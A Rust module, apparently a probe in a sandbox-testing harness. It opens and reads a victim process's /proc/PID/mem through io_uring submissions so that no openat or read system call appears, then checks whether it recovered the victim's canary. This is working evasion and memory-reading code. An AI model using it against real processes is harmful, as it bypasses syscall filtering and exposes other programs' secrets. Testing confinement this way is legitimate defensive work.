//! `/proc/V/mem` by `io_uring`: opened and read by the ring, without a system call that has either's name.
//!
//! Layouts: `linux/io_uring.h`, `struct io_uring_params`, `struct io_uring_sqe`, `struct io_uring_cqe`.

use std::os::fd::{AsFd, OwnedFd};

use rustix::io::Errno;

use crate::kernel::{Mapping, adopt};
use crate::layout::{put, u32_at};
use crate::victim::PAGE;
use crate::{Attempt, Outcome, Stage, call, found};

/// `IORING_OP_OPENAT` and `IORING_OP_READ`.
const OPENAT: u8 = 18;
const READ: u8 = 22;
/// `IORING_OFF_SQES`.
const ENTRIES: u64 = 0x1000_0000;

/// Opens and reads.
pub(super) fn read(stage: &Stage) -> Attempt {
    let ring = Ring::new().map_err(|error| Outcome::impossible(format!("no io_uring: {error}")))?;
    let held = stage.victim.held();
    let mut path = Mapping::anonymous(PAGE)?;
    path.put(format!("/proc/{}/mem\0", held.pid).as_bytes());
    let file = ring.submit(OPENAT, libc::AT_FDCWD, 0, path.address(), 0)?;
    let booty = Mapping::anonymous(PAGE)?;
    ring.submit(READ, file, held.memory.address, booty.address(), 64)?;
    Ok(found(&booty.copy(), &held.memory.canary, "of its memory"))
}

/// A ring of one entry, completed before anything else is done.
struct Ring {
    file: OwnedFd,
    queues: Mapping,
    tail: usize,
    array: usize,
    taken: usize,
    completed: usize,
    completions: usize,
    mask: usize,
}

impl Ring {
    fn new() -> Result<Self, Errno> {
        let mut params = [0; 120];
        let file = adopt(call!(libc::SYS_io_uring_setup, 4, &mut params[..])?)?;
        let field = |at| usize::try_from(u32_at(&params, at)).unwrap_or(0);
        // Both queues are one mapping since 5.4 (IORING_FEAT_SINGLE_MMAP).
        let queues = Mapping::ring(file.as_fd(), 2 * PAGE, 0)
            .or_else(|_error| Mapping::ring(file.as_fd(), PAGE, 0))?;
        let mask = usize::try_from(queues.word(field(88))).unwrap_or(0);
        Ok(Self {
            file,
            queues,
            tail: field(44),
            array: field(64),
            taken: field(80),
            completed: field(84),
            completions: field(100),
            mask,
        })
    }

    /// One entry, and its result.
    fn submit(&self, operation: u8, file: i32, offset: u64, address: u64, length: u32) -> Result<i32, Errno> {
        let mut entry = [0; 64];
        put(&mut entry, 0, &[operation]);
        put(&mut entry, 4, &file.to_ne_bytes());
        put(&mut entry, 8, &offset.to_ne_bytes());
        put(&mut entry, 16, &address.to_ne_bytes());
        put(&mut entry, 24, &length.to_ne_bytes());
        Mapping::ring(self.file.as_fd(), PAGE, ENTRIES)?.put(&entry);
        // The only entry, whatever its turn.
        let tail = self.queues.word(self.tail);
        let turn = usize::try_from(tail & 3).unwrap_or(0);
        self.queues.set_word(self.array.saturating_add(turn.saturating_mul(4)), 0);
        self.queues.set_word(self.tail, tail.wrapping_add(1));
        let getevents = 1;
        call!(libc::SYS_io_uring_enter, &self.file, 1, 1, getevents, 0, 0)?;
        self.result(tail)
    }

    /// The result of the entry of this number: completions are in the same order, one each.
    fn result(&self, number: u32) -> Result<i32, Errno> {
        if self.queues.word(self.completed) == number {
            return Err(Errno::AGAIN);
        }
        // Else the next one would not be waited for: there would be a completion already.
        self.queues.set_word(self.taken, number.wrapping_add(1));
        let number = usize::try_from(number).unwrap_or(0);
        let at = self.completions.saturating_add((number & self.mask).saturating_mul(16));
        let result = self.queues.word(at.saturating_add(8)).cast_signed();
        if result < 0 { Err(Errno::from_raw_os_error(result.saturating_neg())) } else { Ok(result) }
    }
}
